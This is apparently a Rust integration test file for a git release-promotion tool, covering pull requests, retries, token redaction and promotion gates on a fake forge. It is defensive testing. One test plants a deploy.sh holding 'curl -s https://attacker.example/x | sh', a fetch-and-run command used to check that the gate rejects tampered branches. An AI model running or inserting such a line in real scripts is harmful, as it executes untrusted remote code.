//! `git release promote`: one pull request per promotion, kept in line, on a fake forge.

use std::path::Path;

use crate::deploy::{TwoRepos, path};
use crate::fake_forge::{BOT, Dialect, FakeForge, Fault};
use crate::harness::World;
use crate::reconcile::edit_release_file;

pub const TOKEN: &str = "ghp_0123456789abcdefSECRET";

/// A release repository whose qa deployed 1.0.0, pointed at a fake GitHub.
/// Puts the release repository on the forge at `api`, as a clone of a hosted repository is: its
/// remote URL names the forge's host (where a token from a variable may go), and git reaches
/// the bare repository beside the clone through `url.<path>.insteadOf`.
pub fn publish_on(world: &World, release: &Path, api: &str, repository: &str) {
    let bare = release.with_file_name("release.git");
    let ours = world.command("git", release).args(["config", &format!("url.{}.insteadOf", bare.display())]).output();
    if !ours.is_ok_and(|o| o.status.success()) && !world.git(release, &["config", "remote.origin.url"]).starts_with('/')
    {
        return; // served over http by a server of its own
    }
    assert!(bare.join("HEAD").is_file(), "the release repository's remote is {}", bare.display());
    let url = format!("{api}/{repository}.git");
    let bare = bare.to_str().expect("temp paths are UTF-8");
    world.git(release, &["config", &format!("url.{bare}.insteadOf"), &url]);
    world.git(release, &["remote", "set-url", "origin", &url]);
}

pub fn promotable(world: &World, forge: &FakeForge) -> TwoRepos {
    let repos = TwoRepos::new(world);
    let release = &repos.release;
    world.release(release, &["set", "qa", "1.0.0", "--push"]).expect_status(0);
    world.release(release, &["prepare", "qa"]).expect_status(0);
    world.release(release, &["record", "qa"]).expect_status(0);
    point_at(world, release, forge.dialect.kind(), &forge.api());
    repos
}

/// Adds `[forge]` to the release file the workspace reads (environment/dev's).
pub fn point_at(world: &World, release: &Path, kind: &str, api: &str) {
    point_at_repository(world, release, kind, api, "shop/release");
}

fn point_at_repository(world: &World, release: &Path, kind: &str, api: &str, repository: &str) {
    publish_on(world, release, api, repository);
    let forge = format!("\n[forge]\nkind = \"{kind}\"\napi = \"{api}\"\nrepository = \"{repository}\"\n");
    edit_release_file(world, release, |file| file.split("\n[forge]\n").next().unwrap_or_default().to_owned() + &forge);
}

fn promote(world: &World, release: &Path, forge: &FakeForge) -> serde_json::Value {
    let run =
        world.release_with(release, &["-v", "promote", "qa", "prod", "--json"], &[(forge.dialect.variable(), TOKEN)]);
    run.expect_status(0);
    assert!(!run.to_string().contains("SECRET"), "the token shows:\n{run}");
    run.json()
}

fn writes(forge: &FakeForge) -> usize {
    forge.requests().iter().filter(|(line, _)| !line.starts_with("GET ")).count()
}

/// The whole life of one promotion on one forge: opened once, left alone when nothing changed,
/// updated in place when qa moves, and never doubled by concurrent runs.
fn keeps_one_pull_request(dialect: Dialect) {
    let world = World::new();
    let forge = FakeForge::new(dialect, Some(TOKEN));
    let repos = promotable(&world, &forge);
    let release = &repos.release;

    let created = promote(&world, release, &forge);
    assert_eq!(created["action"], "created", "{dialect:?}");
    assert_eq!(created["number"], 1);
    assert_eq!(
        (created["from"].as_str(), created["to"].as_str(), created["version"].as_str()),
        (Some("qa"), Some("prod"), Some("1.0.0"))
    );
    let pulls = forge.open_pulls();
    assert_eq!(pulls.len(), 1);
    let pull = &pulls[0];
    assert_eq!((pull.source.as_str(), pull.target.as_str()), ("environment/qa", "environment/prod"));
    assert_eq!(pull.title, "Promote qa → prod: 1.0.0 (v1.0.0-rc.1)");
    assert!(pull.body.starts_with("<!-- git-release:promotion\n"), "{}", pull.body);
    for part in ["✅ `previous-deployed`", "### Release file", "+version = \"1.0.0\"", "First feature"] {
        assert!(pull.body.contains(part), "{part} in:\n{}", pull.body);
    }
    assert!(created["url"].as_str().is_some_and(|url| url.ends_with('1')), "{created}");

    let before = writes(&forge);
    let again = promote(&world, release, &forge);
    assert_eq!((again["action"].as_str(), again["number"].as_u64()), (Some("unchanged"), Some(1)));
    assert_eq!(writes(&forge), before, "a rerun with nothing changed writes nothing");

    world.release(release, &["set", "qa", "1.1.0", "--push"]).expect_status(0);
    let updated = promote(&world, release, &forge);
    assert_eq!((updated["action"].as_str(), updated["number"].as_u64()), (Some("updated"), Some(1)));
    let pulls = forge.open_pulls();
    assert_eq!(pulls.len(), 1, "still one pull request");
    assert_eq!(pulls[0].title, "Promote qa → prod: 1.1.0");
    assert!(pulls[0].body.contains("+version = \"1.1.0\""), "{}", pulls[0].body);

    // Three runs at once against a forge with none open: one pull request, whoever wins.
    let fresh = FakeForge::new(dialect, Some(TOKEN));
    point_at(&world, release, dialect.kind(), &fresh.api());
    let children: Vec<_> = (0..3)
        .map(|_| {
            let mut command = world.release_command(release, &["promote", "qa", "prod", "--json"]);
            command.env(dialect.variable(), TOKEN);
            command.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
            command.spawn().expect("git-release starts")
        })
        .collect();
    let mut actions = Vec::new();
    for child in children {
        let output = child.wait_with_output().expect("git-release ends");
        assert!(output.status.success(), "{dialect:?}: {}", String::from_utf8_lossy(&output.stderr));
        let json: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
        actions.push(json["action"].as_str().unwrap_or_default().to_owned());
    }
    assert_eq!(fresh.open_pulls().len(), 1, "{dialect:?}: {actions:?}");
    assert_eq!(actions.iter().filter(|a| *a == "created").count(), 1, "{actions:?}");
}

#[test]
fn github_keeps_one_pull_request() {
    keeps_one_pull_request(Dialect::Github);
}

#[test]
fn gitlab_keeps_one_merge_request() {
    keeps_one_pull_request(Dialect::Gitlab);
}

#[test]
fn bitbucket_server_keeps_one_pull_request() {
    keeps_one_pull_request(Dialect::BitbucketServer);
}

#[test]
fn bitbucket_cloud_keeps_one_pull_request() {
    keeps_one_pull_request(Dialect::BitbucketCloud);
}

#[test]
fn azure_devops_keeps_one_pull_request() {
    keeps_one_pull_request(Dialect::Azure);
}

#[test]
fn gitea_keeps_one_pull_request() {
    keeps_one_pull_request(Dialect::Gitea);
}

#[test]
fn every_forge_finds_its_pull_request_among_hundreds() {
    let world = World::new();
    let repos = TwoRepos::new(&world);
    let release = &repos.release;
    world.release(release, &["set", "qa", "1.0.0", "--push"]).expect_status(0);
    for dialect in Dialect::ALL {
        let forge = FakeForge::new(dialect, Some(TOKEN));
        // Others open from qa into elsewhere, and from elsewhere into prod, ahead of ours.
        forge.seed((0..120).map(|n| ("environment/qa".to_owned(), format!("archive/{n}"))));
        forge.seed((0..120).map(|n| (format!("feature/{n}"), "environment/prod".to_owned())));
        point_at(&world, release, dialect.kind(), &forge.api());
        let created = promote(&world, release, &forge);
        assert_eq!((created["action"].as_str(), created["number"].as_u64()), (Some("created"), Some(241)));
        let again = promote(&world, release, &forge);
        assert_eq!((again["action"].as_str(), again["number"].as_u64()), (Some("unchanged"), Some(241)), "{dialect:?}");
        let ours =
            forge.open_pulls().into_iter().filter(|p| p.source == "environment/qa" && p.target == "environment/prod");
        assert_eq!(ours.count(), 1, "{dialect:?}");
        // Neither filters by both branches, so the client reads to the last page: Gitea's
        // fifth of 50 (241 open), Bitbucket's second of 100 (121 from qa).
        let last = match dialect {
            Dialect::Gitea => Some("page=5"),
            Dialect::BitbucketServer => Some("start=100"),
            _ => None,
        };
        if let Some(last) = last {
            assert!(
                forge.requests().iter().any(|(line, _)| line.starts_with("GET ") && line.contains(last)),
                "{dialect:?}"
            );
        }
    }
}

#[test]
fn every_forge_says_plainly_when_the_repository_is_unknown() {
    let world = World::new();
    let repos = TwoRepos::new(&world);
    let release = &repos.release;
    world.release(release, &["set", "qa", "1.0.0", "--push"]).expect_status(0);
    for dialect in Dialect::ALL {
        let forge = FakeForge::new(dialect, Some(TOKEN));
        point_at_repository(&world, release, dialect.kind(), &forge.api(), "shop/gone");
        let missing = world.release_with(release, &["promote", "qa", "prod"], &[(dialect.variable(), TOKEN)]);
        missing
            .expect_status(128)
            .expect_stderr(" does not know repository shop/gone\n")
            .expect_stderr("hint: check [forge] repository and api in release.toml");
        assert!(forge.open_pulls().is_empty(), "{dialect:?}");
    }
}

#[test]
fn every_forge_names_where_a_refused_token_came_from() {
    let world = World::new();
    let repos = TwoRepos::new(&world);
    let release = &repos.release;
    world.release(release, &["set", "qa", "1.0.0", "--push"]).expect_status(0);
    for dialect in Dialect::ALL {
        let forge = FakeForge::new(dialect, Some("the-right-token"));
        point_at(&world, release, dialect.kind(), &forge.api());
        let refused = world.release_with(release, &["-v", "promote", "qa", "prod"], &[(dialect.variable(), TOKEN)]);
        refused
            .expect_status(128)
            .expect_stderr("refused the token (HTTP ")
            .expect_stderr(&format!("caused by: the token came from {}", dialect.variable()));
        assert!(!refused.to_string().contains("SECRET"), "{refused}");
        assert!(forge.open_pulls().is_empty());
    }
}

#[test]
fn no_token_ever_shows_even_verbose_and_refused() {
    let world = World::new();
    let forge = FakeForge::github(Some("the-right-token"));
    let repos = promotable(&world, &forge);
    let refused = world.release_with(&repos.release, &["-v", "promote", "qa", "prod"], &[("GITHUB_TOKEN", TOKEN)]);
    refused.expect_status(128).expect_stderr("error: GitHub refused the token (HTTP 401)");
    refused
        .expect_stderr("caused by: the token came from GITHUB_TOKEN")
        .expect_stderr("hint: set GITHUB_TOKEN or GH_TOKEN");
    assert!(!refused.to_string().contains(TOKEN) && !refused.to_string().contains("SECRET"), "{refused}");
    assert!(forge.open_pulls().is_empty());

    let forge = FakeForge::github(Some(TOKEN));
    point_at(&world, &repos.release, forge.dialect.kind(), &forge.api());
    let verbose = world.release_with(&repos.release, &["-v", "promote", "qa", "prod"], &[("GITHUB_TOKEN", TOKEN)]);
    verbose.expect_status(0).expect_stderr("POST http://127.0.0.1");
    assert!(!verbose.to_string().contains("SECRET"), "{verbose}");
    let sent = forge.requests();
    assert!(sent.iter().all(|(_, headers)| {
        headers.iter().any(|(k, v)| k.eq_ignore_ascii_case("authorization") && v == &format!("Bearer {TOKEN}"))
    }));
}

#[test]
fn without_a_forge_the_promotion_is_printed() {
    let world = World::new();
    let repos = TwoRepos::new(&world);
    world.release(&repos.release, &["set", "qa", "1.0.0", "--push"]).expect_status(0);
    let printed = world.release(&repos.release, &["promote", "qa", "prod"]);
    printed
        .expect_status(0)
        .expect_stdout("Promote qa → prod: 1.0.0")
        .expect_stdout("are available in the branch:\n\n  environment/qa ")
        .expect_stdout("for you to merge into environment/prod.");
    let json = world.release(&repos.release, &["--offline", "promote", "qa", "prod", "--json"]).json();
    assert_eq!(json["action"], "printed");
    assert_eq!(json["number"], serde_json::Value::Null);

    let skipped = world.release(&repos.release, &["promote", "dev", "prod"]);
    skipped
        .expect_status(1)
        .expect_stderr("error: cannot promote dev into prod")
        .expect_stderr("caused by: prod comes after qa, not dev");
}

#[test]
fn forge_faults_are_retried_or_reported_plainly() {
    let world = World::new();
    let forge = FakeForge::github(Some(TOKEN));
    let repos = promotable(&world, &forge);
    let release = &repos.release;
    let quick = [("GITHUB_TOKEN", TOKEN), ("GIT_RELEASE_HTTP_BACKOFF_MS", "10"), ("GIT_RELEASE_HTTP_TIMEOUT", "1")];

    // A 429 asking for a second, then a 502 and a dropped connection: waited out, then done.
    forge.fault(Fault::Status { status: 429, retry_after: Some(1) });
    forge.fault(Fault::Status { status: 502, retry_after: None });
    forge.fault(Fault::Drop);
    let started = std::time::Instant::now();
    let run = world.release_with(release, &["promote", "qa", "prod", "--json"], &quick);
    run.expect_status(0);
    assert!(started.elapsed() >= std::time::Duration::from_secs(1), "Retry-After was honoured");
    assert_eq!(forge.open_pulls().len(), 1);

    for _ in 0..5 {
        forge.fault(Fault::Status { status: 503, retry_after: None });
    }
    let down = world.release_with(release, &["promote", "qa", "prod"], &quick);
    down.expect_status(128)
        .expect_stderr("error: gave up on GitHub after 5 tries")
        .expect_stderr("caused by: the last try: HTTP 503");

    forge.fault(Fault::SignInPage);
    let page = world.release_with(release, &["promote", "qa", "prod"], &quick);
    page.expect_status(128).expect_stderr("error: GitHub answered with an HTML page instead of JSON (HTTP 200)");

    forge.fault(Fault::Malformed);
    let broken = world.release_with(release, &["promote", "qa", "prod"], &quick);
    broken
        .expect_status(128)
        .expect_stderr("error: GitHub answered the open pull requests with JSON git-release cannot read");

    for _ in 0..5 {
        forge.fault(Fault::Hang);
    }
    let started = std::time::Instant::now();
    let silent = world.release_with(
        release,
        &["promote", "qa", "prod"],
        &[quick[0], quick[1], quick[2], ("GIT_RELEASE_HTTP_TRIES", "2")],
    );
    silent.expect_status(128).expect_stderr("caused by: the last try: no answer in time");
    assert!(started.elapsed() < std::time::Duration::from_secs(10), "timeouts bound the wait");
    assert_eq!(forge.open_pulls().len(), 1, "nothing was lost or doubled");
}

#[test]
fn a_dry_run_says_what_it_would_do_and_writes_nothing() {
    let world = World::new();
    let forge = FakeForge::github(Some(TOKEN));
    let repos = promotable(&world, &forge);
    let dry = world.release_with(&repos.release, &["promote", "qa", "prod", "--dry-run"], &[("GITHUB_TOKEN", TOKEN)]);
    dry.expect_status(0).expect_stdout("would open a pull request from qa into prod");
    assert_eq!(writes(&forge), 0);
    assert!(forge.open_pulls().is_empty());
}

#[test]
fn gate_report_posts_the_verdict_as_each_forge_reads_it() {
    let world = World::new();
    let repos = TwoRepos::new(&world);
    let release = &repos.release;
    world.release(release, &["set", "qa", "1.0.0", "--push"]).expect_status(0);
    world.release(release, &["prepare", "qa"]).expect_status(0);
    let url = [("GIT_RELEASE_PIPELINE_URL", "https://ci.example/run/7")];
    // (refused, allowed) in each forge's words.
    let words = [
        (Dialect::Github, "failure", "success"),
        (Dialect::Gitlab, "failed", "success"),
        (Dialect::BitbucketServer, "FAILED", "SUCCESSFUL"),
        (Dialect::BitbucketCloud, "FAILED", "SUCCESSFUL"),
        (Dialect::Azure, "failed", "succeeded"),
        (Dialect::Gitea, "failure", "success"),
    ];
    for (dialect, refused, _) in words {
        let forge = FakeForge::new(dialect, Some(TOKEN));
        point_at(&world, release, dialect.kind(), &forge.api());
        let head = world.git(release, &["rev-parse", "environment/qa"]).trim().to_owned();
        let env = [(dialect.variable(), TOKEN), url[0]];
        let gate = world.release_with(release, &["-v", "gate", "--target", "prod", "--report"], &env);
        gate.expect_status(1).expect_stderr("posted git-release/gate = failure on");
        assert!(!gate.to_string().contains("SECRET"), "{gate}");
        let statuses = forge.statuses();
        assert_eq!(statuses.len(), 1, "{dialect:?}");
        let status = &statuses[0];
        assert_eq!((status.commit.as_str(), status.state.as_str()), (head.as_str(), refused), "{dialect:?}");
        assert_eq!(status.context, "git-release/gate");
        assert!(status.description.starts_with("previous-deployed: "), "{}", status.description);
        assert!(status.description.chars().count() <= 140);
    }
    world.release(release, &["record", "qa"]).expect_status(0);
    for (dialect, _, allowed) in words {
        let forge = FakeForge::new(dialect, Some(TOKEN));
        point_at(&world, release, dialect.kind(), &forge.api());
        let env = [(dialect.variable(), TOKEN), url[0]];
        world.release_with(release, &["gate", "--target", "prod", "--report"], &env).expect_status(0);
        let statuses = forge.statuses();
        assert_eq!(statuses.iter().map(|s| s.state.as_str()).collect::<Vec<_>>(), [allowed], "{dialect:?}");
        assert!(statuses[0].description.starts_with("allowed into prod"), "{}", statuses[0].description);
    }

    let offline = world.release(release, &["--offline", "gate", "--target", "prod", "--report"]);
    offline.expect_status(2).expect_stderr("error: --report has no forge to post the gate's status to");
}

#[test]
fn diff_shows_what_a_promotion_would_carry() {
    let world = World::new();
    let repos = TwoRepos::new(&world);
    let release = &repos.release;
    repos.app_commit(&world, "SHOP-7 Pay by card\n\nAlso fixes SHOP-9.");
    world.release(release, &["set", "qa", "1.0.0", "--push"]).expect_status(0);
    world.release(release, &["prepare", "qa"]).expect_status(0);
    world.release(release, &["record", "qa"]).expect_status(0);

    let json = world.release(release, &["diff", "qa", "prod", "--json"]).json();
    assert_eq!(
        (json["from"].as_str(), json["to"].as_str(), json["version"].as_str()),
        (Some("qa"), Some("prod"), Some("1.0.0"))
    );
    assert!(json["release_file"].as_str().is_some_and(|d| d.contains("+version = \"1.0.0\"")), "{json}");
    let summaries: Vec<&str> =
        json["commits"].as_array().expect("commits").iter().filter_map(|c| c["summary"].as_str()).collect();
    assert_eq!(summaries, ["SHOP-7 Pay by card", "First feature"]);
    assert_eq!(json["jira"], serde_json::json!(["SHOP-7", "SHOP-9"]));
    assert_eq!(json["truncated"], false);

    let human = world.release(release, &["diff", "qa", "prod"]);
    human
        .expect_status(0)
        .expect_stdout("Promotion qa → prod: 1.0.0")
        .expect_stdout("  +version = \"1.0.0\"")
        .expect_stdout(" SHOP-7 Pay by card\n")
        .expect_stdout("Jira: SHOP-7, SHOP-9");

    // Once prod runs it too, nothing is left to carry.
    world.release(release, &["set", "prod", "1.0.0", "--push"]).expect_status(0);
    world.release(release, &["prepare", "prod"]).expect_status(0);
    world.release(release, &["record", "prod"]).expect_status(0);
    let none = world.release(release, &["diff", "qa", "prod", "--json"]).json();
    assert_eq!(none["commits"], serde_json::json!([]), "{none}");
    assert_eq!(none["jira"], serde_json::json!([]));

    world.release(release, &["diff", "qa", "staging"]).expect_status(2).expect_stderr("staging");
}

/// Someone edits prod's version by hand, so qa's release file no longer merges into prod's.
pub fn edit_prod_by_hand(world: &World, release: &Path) {
    world.git(release, &["checkout", "-q", "environment/prod"]);
    let file = std::fs::read_to_string(release.join("release.toml")).expect("release file");
    let edited: String = file
        .lines()
        .map(|line| if line.starts_with("version") { "version = \"0.9.0\"" } else { line })
        .collect::<Vec<_>>()
        .join("\n");
    let edited = if edited.contains("version = ") { edited } else { format!("version = \"0.9.0\"\n{edited}") };
    std::fs::write(release.join("release.toml"), edited + "\n").expect("release file");
    world.git(release, &["commit", "-q", "-am", "Hotfix the version by hand"]);
    world.git(release, &["push", "-q", "origin", "environment/prod"]);
    world.git(release, &["checkout", "-q", "environment/dev"]);
}

#[test]
fn conflicting_branches_are_refused_and_rebuild_opens_a_clean_promotion() {
    let world = World::new();
    let forge = FakeForge::github(Some(TOKEN));
    let repos = promotable(&world, &forge);
    let release = &repos.release;
    edit_prod_by_hand(&world, release);
    let before = world.git(release, &["for-each-ref"]);

    let refused = world.release_with(release, &["promote", "qa", "prod"], &[("GITHUB_TOKEN", TOKEN)]);
    refused
        .expect_status(1)
        .expect_stderr("error: environment/qa does not merge cleanly into environment/prod")
        .expect_stderr("caused by: conflicting: release.toml")
        .expect_stderr("hint: rerun with --rebuild to promote from promote/prod");
    assert!(forge.open_pulls().is_empty(), "nothing opened");
    assert_eq!(world.git(release, &["for-each-ref"]), before, "no reference moved");

    let dry =
        world.release_with(release, &["promote", "qa", "prod", "--rebuild", "--dry-run"], &[("GITHUB_TOKEN", TOKEN)]);
    dry.expect_status(0).expect_stdout("would open");
    assert_eq!(world.git(release, &["for-each-ref"]), before, "a dry run pushes nothing");

    let run =
        || world.release_with(release, &["promote", "qa", "prod", "--rebuild", "--json"], &[("GITHUB_TOKEN", TOKEN)]);
    let rebuilt = run();
    rebuilt.expect_status(0);
    assert_eq!(rebuilt.json()["action"], "created");
    let pulls = forge.open_pulls();
    assert_eq!(pulls.len(), 1);
    assert_eq!((pulls[0].source.as_str(), pulls[0].target.as_str()), ("promote/prod", "environment/prod"));
    let remote = &repos.release_remote;
    let tip = world.git(remote, &["rev-parse", "refs/heads/promote/prod"]).trim().to_owned();
    let parent = world.git(remote, &["rev-parse", &format!("{tip}^")]);
    assert_eq!(parent, world.git(remote, &["rev-parse", "refs/heads/environment/prod"]), "built on prod's head");
    assert_eq!(
        world.git(remote, &["show", &format!("{tip}:release.toml")]),
        world.git(remote, &["show", "refs/heads/environment/qa:release.toml"]),
        "carrying qa's release file"
    );
    let clean = world.git(remote, &["merge-tree", "--write-tree", "refs/heads/environment/prod", &tip]);
    assert!(!clean.is_empty(), "merges cleanly");
    let gate =
        world.release(release, &["gate", "--target", "prod", "--source", "promote/prod", "--head", &tip, "--json"]);
    let findings = gate.json()["findings"].clone();
    assert!(
        findings.as_array().expect("findings").iter().any(|f| f["check"] == "promotion-path" && f["ok"] == true),
        "{findings}"
    );

    // A rerun with nothing changed pushes nothing and writes nothing.
    let again = run();
    assert_eq!(again.json()["action"], "unchanged");
    assert_eq!(world.git(remote, &["rev-parse", "refs/heads/promote/prod"]).trim(), tip);

    // qa moves: the branch is rebuilt on prod's head and the same pull request updated.
    world.release(release, &["set", "qa", "1.1.0", "--push"]).expect_status(0);
    let moved = run();
    assert_eq!((moved.json()["action"].as_str(), moved.json()["number"].as_u64()), (Some("updated"), Some(1)));
    let new_tip = world.git(remote, &["rev-parse", "refs/heads/promote/prod"]).trim().to_owned();
    assert_ne!(new_tip, tip);
    assert!(world.git(remote, &["show", &format!("{new_tip}:release.toml")]).contains("1.1.0"));
    assert_eq!(forge.open_pulls().len(), 1);
}

#[test]
fn a_fresh_clone_fetches_the_application_repository_before_promoting() {
    let world = World::new();
    let forge = FakeForge::github(Some(TOKEN));
    let repos = promotable(&world, &forge);
    // A CI runner's clone of the release repository: no copy of the application repository yet.
    std::fs::remove_dir_all(repos.release.join(".git/release")).expect("the cache can be removed");
    let report = promote(&world, &repos.release, &forge);
    assert_eq!(report["action"], "created", "{report}");
    let body = &forge.open_pulls()[0].body;
    assert!(!body.contains("has not been fetched"), "{body}");
    assert!(body.contains("✅ `release-candidate`"), "{body}");
}

/// A token the forge will not name keeps its own promotion where it can learn its account:
/// GitHub's `GITHUB_TOKEN` (an app's installation token, which `GET /user` refuses) asks GraphQL's
/// `viewer`. Where no call names the token, git-release takes over nothing, says how to name it,
/// and with `GIT_RELEASE_FORGE_USER` set keeps its promotion as with any token.
#[test]
fn a_token_the_forge_will_not_name_keeps_its_promotion_once_its_account_is_known() {
    for dialect in Dialect::ALL {
        let world = World::new();
        let forge = FakeForge::new(dialect, Some(TOKEN));
        forge.as_app();
        let repos = promotable(&world, &forge);
        let release = &repos.release;
        let vars = [(dialect.variable(), TOKEN)];
        world.release_with(release, &["promote", "qa", "prod"], &vars).expect_status(0).expect_stdout("created");
        let retitle = ["promote", "qa", "prod", "--title", "Promote qa into prod"];
        let again = world.release_with(release, &retitle, &vars);
        if dialect == Dialect::Github {
            again.expect_status(0).expect_stdout("updated pull request #1");
        } else {
            again
                .expect_status(1)
                .expect_stderr(&format!("{BOT} opened it; "))
                .expect_stderr("does not say whose the token is")
                .expect_stderr("hint: or set GIT_RELEASE_FORGE_USER to the account the token belongs to");
            // Accounts are named whatever their case, as the forges compare them.
            let named = [(dialect.variable(), TOKEN), ("GIT_RELEASE_FORGE_USER", &*BOT.to_uppercase())];
            world.release_with(release, &retitle, &named).expect_status(0).expect_stdout("updated pull request #1");
        }
        let open = forge.open_pulls();
        assert_eq!(open.len(), 1, "{dialect:?}: {open:?}");
        assert_eq!(open[0].title, "Promote qa into prod", "{dialect:?}");
    }
}

/// Seen: GitHub's secondary rate limit (403 with `Retry-After` and requests left) was reported
/// as "GitHub refused the token"; "Actions are not permitted to create pull requests" too.
#[test]
fn secondary_rate_limits_are_waited_out_and_a_forbidden_token_is_told_from_a_bad_one() {
    let world = World::new();
    let forge = FakeForge::github(Some(TOKEN));
    let repos = promotable(&world, &forge);
    let release = &repos.release;
    let quick = [("GITHUB_TOKEN", TOKEN), ("GIT_RELEASE_HTTP_BACKOFF_MS", "10")];
    let limit = "You have exceeded a secondary rate limit. Please wait a few minutes before you try again.";
    forge.fault(Fault::Said { status: 403, message: limit, retry_after: Some(1) });
    let started = std::time::Instant::now();
    world.release_with(release, &["promote", "qa", "prod"], &quick).expect_status(0);
    assert!(started.elapsed() >= std::time::Duration::from_secs(1), "Retry-After was honoured");
    assert_eq!(forge.open_pulls().len(), 1);

    // The wait asked for is longer than the bound: given up on, as a limit, not a token.
    forge.fault(Fault::Said { status: 403, message: limit, retry_after: Some(600) });
    let bounded = world.release_with(
        release,
        &["promote", "qa", "prod"],
        &[quick[0], quick[1], ("GIT_RELEASE_HTTP_MAX_WAIT", "5")],
    );
    bounded
        .expect_status(128)
        .expect_stderr("error: gave up on GitHub")
        .expect_stderr("the forge asked for 600 s more");
    assert!(!bounded.stderr.contains("token"), "{bounded}");
    forge.clear_faults();

    // A repository whose Actions may not open pull requests: the token is fine, the right is not.
    let world = World::new();
    let forge = FakeForge::github(Some(TOKEN));
    let repos = promotable(&world, &forge);
    let actions = "GitHub Actions is not permitted to create or approve pull requests.";
    forge.fault(Fault::Said { status: 403, message: actions, retry_after: None });
    let refused = world.release_with(&repos.release, &["promote", "qa", "prod"], &quick);
    refused.expect_status(128).expect_stderr("error: GitHub does not let the token do this (HTTP 403)");
    refused.expect_stderr(&format!("caused by: {actions}"));
    refused.expect_stderr("hint: the repository does not let GitHub Actions' token open pull requests");
    assert!(!refused.stderr.contains("refused the token"), "{refused}");
}

/// Seen: `promote` with nothing to promote asked the forge for a pull request and failed on
/// GitHub's 422 ("Validation Failed", without the "No commits between" under it); without a
/// forge it printed a full request to merge, and `--rebuild` pushed a commit changing nothing.
#[test]
fn nothing_to_promote_is_said_before_any_forge_call() {
    let world = World::new();
    let forge = FakeForge::github(Some(TOKEN));
    let repos = promotable(&world, &forge);
    let release = &repos.release;
    // prod takes qa's head as it is: nothing is left to promote.
    world.git(release, &["push", "-q", "origin", "+environment/qa:environment/prod"]);
    world.git(release, &["fetch", "-q", "origin"]);
    world.git(release, &["branch", "-f", "environment/prod", "origin/environment/prod"]);
    let before = forge.requests().len();
    let run = world.release_with(release, &["promote", "qa", "prod", "--json"], &[("GITHUB_TOKEN", TOKEN)]);
    run.expect_status(0);
    assert_eq!(run.json()["action"], "nothing", "{run}");
    assert_eq!(forge.requests().len(), before, "no forge call");
    let offline = world.release(release, &["--offline", "promote", "qa", "prod"]);
    offline.expect_status(0).expect_stdout("nothing to promote: environment/prod holds environment/qa's head");
    let remote = world.state(&repos.release_remote);
    let rebuilt = world.release_with(release, &["promote", "qa", "prod", "--rebuild"], &[("GITHUB_TOKEN", TOKEN)]);
    rebuilt.expect_status(0).expect_stdout("nothing to promote");
    assert_eq!(world.state(&repos.release_remote), remote, "nothing pushed");
}

/// Found by an independent pass: a promotion rebuilt because the branches came to conflict left
/// the plain one open beside it, two promotions into prod.
#[test]
fn rebuilding_closes_the_promotion_it_replaces() {
    let world = World::new();
    let forge = FakeForge::github(Some(TOKEN));
    let repos = promotable(&world, &forge);
    let release = &repos.release;
    assert_eq!(promote(&world, release, &forge)["action"], "created");
    edit_prod_by_hand(&world, release);
    let vars = [("GITHUB_TOKEN", TOKEN)];
    let before = writes(&forge);
    let dry = world.release_with(release, &["promote", "qa", "prod", "--rebuild", "--dry-run"], &vars);
    dry.expect_status(0).expect_stdout("would open").expect_stdout("would close #1: superseded");
    assert_eq!(writes(&forge), before, "a dry run writes nothing");

    let rebuilt = world.release_with(release, &["promote", "qa", "prod", "--rebuild", "--json"], &vars);
    rebuilt.expect_status(0);
    assert_eq!(
        (rebuilt.json()["number"].as_u64(), rebuilt.json()["closed"].clone()),
        (Some(2), serde_json::json!([1]))
    );
    let open = forge.open_pulls();
    assert_eq!(open.iter().map(|p| (p.number, p.source.as_str())).collect::<Vec<_>>(), [(2, "promote/prod")]);
    assert!(
        forge.comments().iter().any(|(number, text)| *number == 1 && text.starts_with("Superseded by #2")),
        "{:?}",
        forge.comments()
    );
    let again = world.release_with(release, &["promote", "qa", "prod", "--rebuild", "--json"], &vars);
    again.expect_status(0);
    assert_eq!((again.json()["action"].as_str(), again.json().get("closed")), (Some("unchanged"), None));
}

/// Found by an independent pass: with the local prod branch left behind the remote's, the rebuilt
/// branch was built on the stale one, and its pull request conflicted from the start.
#[test]
fn a_rebuild_is_built_on_the_remotes_branch_not_a_stale_local_one() {
    let world = World::new();
    let forge = FakeForge::github(Some(TOKEN));
    let repos = promotable(&world, &forge);
    let release = &repos.release;
    edit_prod_by_hand(&world, release);
    let stale = world.git(release, &["rev-parse", "environment/prod"]).trim().to_owned();
    // Someone else moves prod on the remote; this clone fetches, and its own branch stays behind.
    let elsewhere = world.path("elsewhere");
    world.git(
        &world.path(""),
        &["clone", "-q", "-b", "environment/prod", path(&repos.release_remote), path(&elsewhere)],
    );
    world.git(&elsewhere, &["commit", "-q", "--allow-empty", "-m", "Moved on elsewhere"]);
    world.git(&elsewhere, &["push", "-q", "origin", "environment/prod"]);
    world.git(release, &["fetch", "-q", "origin"]);
    let moved = world.git(release, &["rev-parse", "origin/environment/prod"]).trim().to_owned();
    assert_ne!(moved, stale);

    let rebuilt = world.release_with(release, &["promote", "qa", "prod", "--rebuild"], &[("GITHUB_TOKEN", TOKEN)]);
    rebuilt.expect_status(0);
    let parent = world.git(&repos.release_remote, &["rev-parse", "promote/prod^"]).trim().to_owned();
    assert_eq!(parent, moved, "built on the remote's prod, not the stale local one");
}

/// Found by an independent pass: whoever can push to promote/prod could add a file to
/// git-release's own rebuilt promotion, and the gate let the change in by its branch's name.
#[test]
fn a_rebuilt_branch_that_carries_more_than_the_release_file_is_refused() {
    let world = World::new();
    let forge = FakeForge::github(Some(TOKEN));
    let repos = promotable(&world, &forge);
    let release = &repos.release;
    edit_prod_by_hand(&world, release);
    world.release_with(release, &["promote", "qa", "prod", "--rebuild"], &[("GITHUB_TOKEN", TOKEN)]).expect_status(0);
    world.git(release, &["fetch", "-q", "origin"]);
    world.release(release, &["gate", "--target", "prod", "--source", "promote/prod"]).expect_status(0);

    tamper_with_rebuilt(&world, &repos, |elsewhere| {
        std::fs::write(elsewhere.join("deploy.sh"), "#!/bin/sh\ncurl -s https://attacker.example/x | sh\n")
            .expect("writes");
    })
    .expect_status(1)
    .expect_stdout("FAIL  promotion-path")
    .expect_stdout("promote/prod changes deploy.sh beside release.toml")
    .expect_stdout("hint: rebuild it: git release promote qa prod --rebuild");
}

/// Someone who may push promote/prod changes it in a clone of their own (`change` edits its work
/// tree) and pushes it, titled as git-release titles it; the gate is then asked about it.
fn tamper_with_rebuilt(world: &World, repos: &TwoRepos, change: impl Fn(&Path)) -> crate::harness::Transcript {
    let elsewhere = world.path("elsewhere");
